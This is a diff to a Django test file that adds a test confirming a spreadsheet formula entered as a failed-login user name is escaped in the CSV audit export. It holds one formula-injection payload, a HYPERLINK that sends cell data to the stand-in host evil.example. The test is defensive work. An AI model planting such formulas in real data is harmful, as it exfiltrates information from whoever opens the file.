@@ -36,3 +36,21 @@ def test_nobody_else_reads_the_audit_log(world, client_for, persona: str) -> Non
 
 def test_export_needs_post(world, client_for) -> None:
     assert client_for("wu_auditor").get("/audit/export/").status_code == 405
+
+
+def test_a_formula_typed_as_a_user_name_is_inert_in_the_audit_export(world, client_for) -> None:
+    """Formula injection (issue #14.4): anyone can put text in the log by failing a login."""
+    import csv
+    import io
+
+    from django.test import Client
+
+    hostile = '=HYPERLINK("http://evil.example/?u="&D2,"x")'
+    Client().post("/login/", {"username": hostile, "password": "wrong"})
+    text = (
+        client_for("wu_auditor")
+        .post("/audit/export/", {"event_type": "LOGIN_FAILED"})
+        .content.decode("utf-8-sig")
+    )
+    rows = list(csv.reader(io.StringIO(text)))
+    assert rows[1][2] == "'" + hostile and rows[1][0].isdigit()
